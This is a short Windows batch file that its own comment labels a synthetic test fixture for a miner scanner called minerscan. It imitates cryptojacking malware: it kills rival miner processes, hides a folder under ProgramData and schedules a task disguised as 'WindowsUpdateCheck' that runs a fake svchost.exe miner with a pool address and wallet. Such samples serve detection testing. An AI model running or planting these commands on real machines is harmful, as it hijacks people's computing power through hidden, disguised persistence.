@echo off
REM SYNTHETIC TEST FIXTURE for minerscan: harmless text, never executed. Addresses are generated, hosts are documentation ranges or public pool names.
taskkill /f /im xmrig.exe
taskkill /f /im NsGpuCNMiner.exe
tasklist | findstr /i "miner" && taskkill /f /im minerd.exe
attrib +h +s C:\ProgramData\svc
schtasks /create /sc minute /mo 30 /tn "WindowsUpdateCheck" /tr "C:\ProgramData\svc\svchost.exe -o 198.51.100.3:14444 -u 0x03203d5a7794B1ceEb0825425f7C99B6d3f00D2a.w -a ethash" /f
